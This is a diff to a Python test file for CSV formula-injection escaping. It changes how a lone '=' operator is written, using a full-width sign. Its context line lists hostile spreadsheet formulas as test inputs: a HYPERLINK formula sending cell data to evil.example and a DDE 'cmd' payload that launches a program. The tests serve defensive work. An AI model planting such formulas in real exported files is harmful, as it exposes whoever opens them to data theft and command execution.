@@ -148,7 +148,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点")', "+cmd|' /C calc'!A
 
 
 @pytest.mark.parametrize("value, written", [
-    ("=1+1", "'=1+1"), ("=", "'="), ("+cmd|x", "'+cmd|x"), ("@SUM(A1)", "'@SUM(A1)"), ("-1+1", "'-1+1"),
+    ("=1+1", "'=1+1"), ("=", "＝"), ("=100%", "＝100%"), ("= 100 %", "＝ 100 %"), ("=A1", "'=A1"), ("+cmd|x", "'+cmd|x"), ("@SUM(A1)", "'@SUM(A1)"), ("-1+1", "'-1+1"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
     ("-3.5", "-3.5"), ("+12%", "+12%"), ("-1,000.25", "-1,000.25"), ("3", "3"), ("≥90%", "≥90%"), (-3.5, -3.5), ("", ""),
 ])
@@ -181,7 +181,7 @@ def test_csv_cells_from_documents_and_file_names_never_run_as_formulas(tmp_path)
     cells = {name: {v for row in _no_formula(path) for v in row} for name, path in out.items()}
     assert "'=HYPERLINK(1).txt" in cells["score"] and "'=HYPERLINK(1).txt" in cells["extract"]
     assert "'" + FORMULAS[0] in cells["extract"] and "'" + FORMULAS[2] in cells["extract"]
-    assert "'=" in cells["extract"]  # the operator column: shown as "=" by Excel, not run
+    assert "＝" in cells["extract"]  # the operator column: the full-width sign, shown as "=" and never run
     assert any("=HYPERLINK(1).txt" in v for v in cells["leaderboard"])
 
 
